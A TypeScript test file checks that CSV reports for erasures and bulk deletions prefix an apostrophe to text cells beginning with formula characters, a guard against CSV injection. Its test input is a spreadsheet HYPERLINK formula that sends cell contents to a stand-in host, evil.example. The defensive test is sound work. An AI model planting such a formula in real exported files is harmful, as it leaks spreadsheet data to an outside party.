import { describe, expect, it } from "vitest";
import type { BulkDeletion, BulkItem } from "../memory/bulk-delete/bulk-deletion-rows.ts";
import type { Erasure, ErasureItem } from "../memory/erase/erasure-rows.ts";
import { bulkDeletionCsv } from "./bulk-deletion-wire.ts";
import { toCsv } from "./csv.ts";
import { erasureCsv } from "./erasure-wire.ts";

// Every CSV report goes through one writer (lib/http/csv.ts), and every text cell of it is
// guarded against spreadsheet formulas (OWASP, CSV injection): whatever a column holds today,
// a store name, a path, an id, a new column tomorrow, it cannot start a formula.
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D"];

/** The cells of each data line (the header line dropped), read back as RFC 4180 has them written. */
function cells(csv: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  const endField = () => {
    record.push(field);
    field = "";
  };
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted && c === '"' && csv[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) field += c;
    else if (c === ",") endField();
    else if (c === "\r" && csv[i + 1] === "\n") {
      endField();
      records.push(record);
      record = [];
      i++;
    } else field += c;
  }
  return records.slice(1);
}

function expectGuarded(csv: string, textColumns: number[], start: string) {
  const rows = cells(csv);
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) for (const n of textColumns) expect(row[n], `column ${n} of ${JSON.stringify(row)}`).toMatch(/^'/);
  // The guard adds the apostrophe and changes nothing else.
  for (const row of rows) for (const n of textColumns) expect(row[n]!.slice(1).startsWith(start)).toBe(true);
}

describe("CSV reports: formula guard on every text column", () => {
  for (const start of FORMULA_STARTS) {
    const hostile = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;

    it(`erasures: every column, a cell starting with ${JSON.stringify(start)}`, () => {
      const erasure = { id: hostile } as Erasure;
      const item: ErasureItem = { versionId: hostile, storeId: hostile, memoryId: hostile, kind: hostile as never, outcome: hostile as never, path: hostile };
      expectGuarded(erasureCsv(erasure, [item, item]), [0, 1, 2, 3, 4, 5, 6], start);
    });

    it(`bulk deletions: every text column (all but memory_count), a cell starting with ${JSON.stringify(start)}`, () => {
      const bulk = { id: hostile, filter: { target: hostile, metadata: [] } } as unknown as BulkDeletion;
      const item: BulkItem = {
        targetId: hostile,
        storeId: hostile,
        label: hostile,
        seen: hostile,
        memoryCount: 3,
        kind: hostile as never,
        outcome: hostile as never,
      };
      const csv = bulkDeletionCsv(bulk, [item]);
      expectGuarded(csv, [0, 1, 2, 3, 4, 6, 7], start);
      expect(cells(csv)[0]![5]).toBe("3");
    });
  }

  it("numbers stay numbers (a negative count is not text), and the header and plain text are left alone", () => {
    const csv = toCsv(
      [
        ["n", (r: { n: number; s: string }) => r.n],
        ["s", (r) => r.s],
      ],
      [{ n: -2, s: "plain, with a comma" }],
    );
    expect(csv).toBe('n,s\r\n-2,"plain, with a comma"\r\n');
  });
});
